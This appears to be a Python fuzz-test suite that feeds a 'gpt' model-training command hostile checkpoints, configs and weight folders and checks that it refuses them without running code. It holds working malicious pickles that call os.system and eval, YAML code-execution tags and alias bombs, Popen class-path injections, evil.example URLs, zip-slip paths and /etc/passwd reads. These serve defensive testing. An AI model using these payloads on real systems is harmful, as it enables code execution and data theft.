"""Hostile files for the `gpt` command, which must do nothing but what its own files would make it do.

Each is an intact file in which a part says something else: a class to import, an address, another file, a
size that no machine has. Or it is a pickle with code, a file cut or altered, or no file at all. The command
may refuse it in one line, or take it for what it is: it starts no process, opens no connection, unpickles no
class and writes nowhere else, within limits of time and memory. Code in a pickle is always refused.
"""

import io
import json
import math
import os
import pickle
import random
import shlex
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
import yaml
from faults.forked import run
from faults.watched import watch

from gpt.weights.checkpoint import _checksum, read

SECONDS = 60.0
MEMORY = 1_000_000_000
"""Bytes that a command may take beyond those of the imported program."""
LOG = "guard.log"
PWN = "echo pwned > pwned"
POPEN = {"class_path": "subprocess.Popen", "init_args": {"args": PWN, "shell": True}}
VALUES: tuple[Any, ...] = (
    *(POPEN, [POPEN], {"class_path": "evil_module.Evil"}, {"class_path": "CSVLogger"}),
    {"class_path": "lightning.pytorch.strategies.DDPStrategy", "init_args": {"ddp_comm_state": POPEN}},
    *("os.system", "evil_module.Evil", "evil.yaml", "//evil.example/share/evil.yaml", "hub:evil/data"),
    *(f"{scheme}://evil.example/a.yaml" for scheme in ("https", "ftp", "s3", "hf", "github", "memory")),
    *("simplecache::zip://evil.yaml::https://evil.example/a.zip", "../../outside", "/etc/passwd", "C:\\x"),
    *("", "x\0", "\x1b[2J\x07", "\u202e", "$HOME/x", "~", "x" * 100_000, "9" * 10_000, ["a"], [], {}),
    *(0, -1, 1 << 40, 1 << 70, 0.5, math.nan, math.inf, True, None, [[[[]]]], {"a": {"a": {"a": 1}}}),
)  # fmt: skip
NAMES = ("class_path", "init_args", "weights_only", "config", "auto_map", "model_registry", "__class__")
BOMB = "a0: &a0 [x, x]\n" + "".join(f"a{i}: &a{i} [{f'*a{i - 1}, ' * 9}]\n" for i in range(1, 9))
TEXTS = (
    "trainer: !!python/object/apply:os.system ['echo pwned > pwned']\n",
    *("trainer: !!python/name:os.system\n", "trainer: !!python/module:evil_module\n", "run: !ENV ${HOME}\n"),
    *("trainer: !include evil.yaml\n", "model: &a {config: *a}\n", BOMB + "trainer: *a8\n", "model: [", "42"),
    *("trainer: " + "[" * 5000, "".join(" " * i + "a:\n" for i in range(3000)), "run: " + "x" * 1_000_000),
    *("seed_everything: " + "9" * 100_000, 'run: "\\e[2J\\e]0;pwned\\a"\n', "\x00\x01", "- 1\n", ": : :\n"),
)  # fmt: skip
RESUMING = ("fit --resume {}", "fit --data.corpus text.txt --ckpt_path {}", "validate --ckpt_path {}")
LOADING = (
    "generate --prompt a --max_new_tokens 1 --checkpoint {}",
    "evaluate --data text.txt --checkpoint {}",
    "attention --text a --output maps --checkpoint {}",
    "export --format hf --output exported --checkpoint {}",
    "import {} --output imported",
    "fit --data.corpus text.txt --model.init_from {}",
)
CONFIG = ("fit --config {}",)
Written = tuple[Path, tuple[str, ...]]
"""A path, and the commands of which one gets it."""


def changed(tree: Any, chance: random.Random) -> Any:
    """A tree of JSON with a hostile value in one place, or with a name more."""
    if not isinstance(tree, dict | list) or not tree or chance.random() < 0.1:
        return chance.choice(VALUES)
    if isinstance(tree, list):
        place = chance.randrange(len(tree))
        return [*tree[:place], changed(tree[place], chance), *tree[place + 1 :]]
    name = chance.choice([*tree, chance.choice(NAMES)])
    return {**tree, name: changed(tree.get(name), chance)}


def with_header(path: Path, to: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """A safetensors file with another header."""
    data = path.read_bytes()
    length = int.from_bytes(data[:8], "little")
    header = json.loads(data[8 : 8 + length])
    change(header)
    text = json.dumps(header).encode()
    to.write_bytes(struct.pack("<Q", len(text)) + text + data[8 + length :])
    return to


def checkpoint(intact: Path, folder: Path, chance: random.Random) -> Written:
    """Another value in what a checkpoint says of its run or model, with the checksum of the result."""
    path = intact / "run" / "checkpoints" / "last.safetensors"

    def change(header: dict[str, Any]) -> None:
        texts = header["__metadata__"]
        part = chance.choice(("run", "run", "model"))
        values = json.loads(texts[part])
        if part == "run" and chance.random() < 0.7:
            values["options"] = chance.choice((changed(values["options"], chance), chance.choice(TEXTS)))
        else:
            values = changed(values, chance)
        texts[part] = json.dumps(values)
        texts["checksum"] = _checksum(read(path).tensors, texts)

    return with_header(path, folder / "evil.safetensors", change), RESUMING


def config(intact: Path, folder: Path, chance: random.Random) -> Written:
    """A config.yaml."""
    options = yaml.safe_load((intact / "run" / "config.yaml").read_text(encoding="utf-8"))
    text = chance.choice((yaml.safe_dump(changed(options, chance)), chance.choice(TEXTS)))
    (folder / "config.yaml").write_text(text, encoding="utf-8")
    return folder / "config.yaml", CONFIG


def weights(intact: Path, folder: Path, chance: random.Random) -> Written:
    """A folder as transformers writes it, of which one file says something else."""
    shutil.copytree(intact / "hf", folder, dirs_exist_ok=True)
    name = chance.choice(("config.json", "config.json", "model.safetensors", "index"))
    if name == "model.safetensors":
        tensor = {"dtype": "F32", "shape": [300, 32], "data_offsets": [0, 38400]}
        changes = {chance.choice(("transformer.wte.weight", "__metadata__")): changed(tensor, chance)}
        with_header(intact / "hf" / name, folder / name, lambda header: header.update(changes))
    elif name == "index":
        (folder / "model.safetensors").unlink()
        index = {"weight_map": {"wte.weight": chance.choice(VALUES)}}
        kind = chance.choice(("model.safetensors", "pytorch_model.bin"))
        (folder / f"{kind}.index.json").write_text(json.dumps(index), encoding="utf-8")
    else:
        values = json.loads((folder / name).read_text(encoding="utf-8"))
        texts = json.dumps(changed(values, chance)), "[" * 100_000, "{}", '{"n_embd": ' + "9" * 100_000
        (folder / name).write_text(chance.choice((texts[0], chance.choice(texts))), encoding="utf-8")
    return folder, LOADING


class Calls:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


CODE = (
    *(Calls(os.system, PWN), Calls(eval, "open('pwned', 'w')"), Calls(open, "pwned", "w")),
    *(Calls(getattr, Calls(__import__, "evil_module"), "x"), Calls(torch.hub.load, "evil/repository", "x")),
    *(Calls(torch.load, "evil.pt"), Calls(torch.FloatTensor, 10**5, 10**5), Calls(bytearray, 10**11)),
    Calls(torch.storage._load_from_bytes, pickle.dumps(Calls(os.system, PWN))),
)
OPCODES = (
    b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x.",  # an endless string
    b"\x80\x02]r" + struct.pack("<I", 0xFFFFFFF0) + b".",  # a large memo
    b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",  # a frame longer than the file
    b"\x80\x02" + b"](" * 100_000 + b".",  # a deep list
    *(b"\x80\x02X\x04\x00\x00\x00evilQ.", b"\x80\x02tbR.", b"\x80\x02]"),
    pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(CODE[0], 2),  # torch's old format
)


def pickled(intact: Path, folder: Path, chance: random.Random) -> Written:
    """A pickle with code, alone, as a part of a checkpoint, or in an archive that lies."""
    code = pickle.dumps(chance.choice(CODE), chance.choice((0, 2, 4)))
    data, archive = chance.choice((code, chance.choice(OPCODES))), io.BytesIO()
    shape = chance.choice(("alone", "alone", "part", "archive", "archive"))
    if shape == "part":
        torch.save({"model_args": {}, "model": {}, "x": chance.choice(CODE)}, archive)
    elif shape == "archive":
        method = chance.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED))
        more = chance.choice((
            *({"../../pwned": b"x"}, {"/tmp/pwned": b"x"}, {"m/constants.pkl": code, "m/code/x.py": b"x"}),
            *({"m/data/0": bytes(200_000_000)}, {f"m/data/{i}": b"" for i in range(100_000)}),
        ))  # fmt: skip
        with zipfile.ZipFile(archive, "w", method) as file:
            for name, content in {"m/data.pkl": data, **more}.items():
                file.writestr(name, content)
    path = folder / chance.choice(("evil.pt", "model.pth", "ckpt.pt", "pytorch_model.bin"))
    path.write_bytes(archive.getvalue() or data)
    return path, (*RESUMING, *LOADING)


def damaged(intact: Path, folder: Path, chance: random.Random) -> Written:
    """An intact file that is cut, or altered at its start or anywhere."""
    path = intact / chance.choice(("run/checkpoints/last.safetensors", "nanogpt/ckpt.pt"))
    data = bytearray(path.read_bytes())
    if chance.random() < 0.5:
        data = data[: int(chance.random() ** 3 * len(data))]
    for _ in range(chance.choice((0, 1, 50))):
        place = chance.randrange(chance.choice((200, 4096, len(data) + 1)))
        data[place : place + 1] = chance.randbytes(1)
    (folder / f"evil{path.suffix}").write_bytes(data)
    return folder / f"evil{path.suffix}", (*RESUMING, *LOADING)


def special(intact: Path, folder: Path, chance: random.Random) -> Written:
    """A file that never ends, never begins, or is elsewhere."""
    path = folder / "evil.safetensors"
    kind = chance.choice(("pipe", "sparse", "/dev/zero", "evil.safetensors", "/proc/self/mem"))
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "sparse":
        with path.open("wb") as file:
            file.truncate(1 << 40)
    else:
        path.symlink_to(kind)
    return path, (*RESUMING, *LOADING)


KINDS = (
    *(checkpoint, checkpoint, config, weights, pickled),
    *(checkpoint, checkpoint, config, weights, pickled, damaged, special),
)


def meet(folder: Path, intact: Path, chance: random.Random) -> str | None:
    """Give a command a hostile file in a new folder; None if only what may happen did, else what did."""
    case = folder / "case"
    shutil.rmtree(case, ignore_errors=True)
    (case / "evil").mkdir(parents=True)
    shutil.copy(folder / "text.txt", case)
    (case / "evil_module.py").write_text("open('pwned', 'w').close()\n", encoding="utf-8")
    (case / "evil.yaml").write_text(yaml.safe_dump({"strategy": POPEN}), encoding="utf-8")
    kind = chance.choice(KINDS)
    path, commands = kind(intact, case / "evil", chance)
    command = chance.choice(commands)
    words = [word.replace("{}", str(path.relative_to(case))) for word in shlex.split(command)]
    words += ["--trainer.max_steps", "5"] if words[0] == "fit" else []
    ended = run(case, words, sabotage=lambda rank: guard(case), kill_after=SECONDS)
    lines, seen = ended.err.splitlines(), (case / LOG).read_text(encoding="utf-8").splitlines()
    seen = [event for event in seen if "'uname'" not in event]  # Python's own, to name the machine
    told = all(line.startswith("gpt ") and line.isprintable() for line in lines)
    refused = ended.status == 2 and told and 1 <= len(lines) <= 4  # what it resumes, and what it changed
    problem = None
    if ended.status == -9 and "\nplanned: " not in f"\n{ended.err}":  # it trains, as long as it was told to
        problem = f"no answer within {SECONDS:.0f} seconds"
    elif seen or list(case.rglob("pwned")):
        problem = f"it did {seen[:3]}"
    elif ended.peak > resident() + MEMORY:
        problem = f"it took {ended.peak / 1e9:.1f} GB"
    elif not refused and (ended.status > 0 or kind in (pickled, special)):
        problem = "not refused"
    what = f"{kind.__name__}: gpt {command}: {problem}: status {ended.status}: {ended.err[-300:]!r}"
    return what if problem else None


def guard(case: Path) -> None:
    """In the process under test: log every forbidden event; only `case` and the cache may be written to."""
    log = os.open(case / LOG, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    watch(lambda event: os.write(log, f"{event}\n".encode()), case, Path(os.environ["GPT_CACHE"]))


def resident() -> int:
    """Bytes that this process holds now, which a forked one starts with."""
    pages = int(Path("/proc/self/statm").read_text(encoding="utf-8").split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")
